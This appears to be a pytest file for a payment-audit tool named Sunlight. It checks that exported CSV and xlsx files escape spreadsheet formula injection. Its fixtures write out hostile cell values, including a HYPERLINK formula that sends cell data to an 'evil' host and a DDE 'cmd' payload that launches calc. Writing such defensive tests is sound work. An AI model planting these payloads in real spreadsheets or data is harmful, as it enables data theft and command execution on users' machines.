"""Issue #11: delivered text that a spreadsheet would run as a formula (a name
`=HYPERLINK(…)`, `=cmd|…`) reaches no CSV or xlsx Sunlight writes as a live formula, and the
numbers in them stay numbers."""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

import pytest
import python_calamine
from typer.testing import CliRunner

from sunlight.cli.app import app
from sunlight.csv_cells import FORMULA_STARTS, safe_cell
from tests.conftest import write_csv

runner = CliRunner()
HEADER = ["项目名称", "身份证号", "姓名", "所属期", "金额", "银行账号", "乡镇", "村"]
PAYEE = "610327197106050172"
LINK = '=HYPERLINK("http://evil/?d="&A1,"点我")'
COMMAND = "=cmd|' /C calc'!A0"
HOSTILE_ROWS = [
    HEADER,
    # Paid twice: DUPLICATE_PAYMENT, whose name, township, village and explanation are hostile.
    ["低保", PAYEE, LINK, "2024-03", "100", "6217493730820689217", "@SUM(1+1)", "+1+1"],
    ["低保", PAYEE, LINK, "2024-03", "100", "6217493730820689217", "@SUM(1+1)", "+1+1"],
    ["低保", COMMAND, "李四", "2024-03", "100", "6217493730820689218", "城关镇", "东村"],
    ["低保", "110101199003074514", "-2+3", "2024-04", "-50.00", "6217493730820689219", "城关镇",
     "东村"],
]
PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?")


@pytest.fixture
def hostile(tmp_path: Path, home: Path) -> Path:
    """A home where a hostile delivery was ingested and detected; the folder for exports."""
    write_csv(tmp_path / "delivery" / "payments" / "@恶意.csv", HOSTILE_ROWS)
    assert runner.invoke(app, ["ingest", str(tmp_path / "delivery")]).exit_code == 0
    assert runner.invoke(app, ["detect"]).exit_code == 1
    return tmp_path


def _csv_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))[1:]


def _no_formula_text(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or PLAIN_NUMBER.fullmatch(cell), cell


def test_the_warning_csv_holds_no_formula_and_its_numbers_parse(hostile: Path):
    out = hostile / "warnings.csv"
    assert runner.invoke(app, ["warnings", "export", str(out)]).exit_code == 0
    rows = _csv_cells(out)
    _no_formula_text(rows)
    [warning] = [dict(zip(("model", "name", "township", "village", "amount", "explanation"),
                          (r[1], r[3], r[6], r[7], r[10], r[13]), strict=True))
                 for r in rows if r[1] == "DUPLICATE_PAYMENT"]
    assert warning["name"] == "'" + LINK  # the text kept, marked as text
    assert warning["township"] == "'@SUM(1+1)" and warning["village"] == "'+1+1"
    assert warning["explanation"].startswith("'" + LINK)
    assert float(warning["amount"]) == 100.0


def test_the_quality_csv_holds_no_formula_and_its_numbers_parse(hostile: Path):
    out = hostile / "quality.csv"
    assert runner.invoke(app, ["quality", "export", str(out)]).exit_code == 0
    rows = _csv_cells(out)
    _no_formula_text(rows)
    assert {r[1] for r in rows} == {"'@恶意.csv"}
    assert ["bad_id", "'" + COMMAND] in [r[5:] for r in rows]
    assert ["negative_amount", "-50.00"] in [r[5:] for r in rows]  # a number, as delivered
    assert all(int(r[3]) > 1 for r in rows)


@pytest.mark.parametrize("command", [["warnings", "export"], ["quality", "export"]])
def test_the_xlsx_exports_hold_text_never_formulas(hostile: Path, command: list[str]):
    out = hostile / "export.xlsx"
    assert runner.invoke(app, [*command, str(out)]).exit_code == 0
    with zipfile.ZipFile(out) as book:
        sheets = [book.read(name).decode() for name in book.namelist()
                  if name.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in sheet or "<f " in sheet for sheet in sheets)
    texts = {cell for row in python_calamine.CalamineWorkbook.from_path(str(out))
             .get_sheet_by_index(0).to_python() for cell in row}
    assert (LINK if command[0] == "warnings" else COMMAND) in texts  # as delivered, as text


@pytest.mark.parametrize(("cell", "written"), [
    ("=1+1", "'=1+1"), ("+1", "+1"), ("-50.00", "-50.00"), ("-1+1", "'-1+1"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("＝1+1", "'＝1+1"),
    ("王芳", "王芳"), ("", ""), ("a=b", "a=b"), (3, 3), ("1e5", "1e5"), ("-1e5", "'-1e5"),
])
def test_a_cell_is_marked_as_text_only_when_a_spreadsheet_would_run_it(cell: object,
                                                                        written: object):
    assert safe_cell(cell) == written
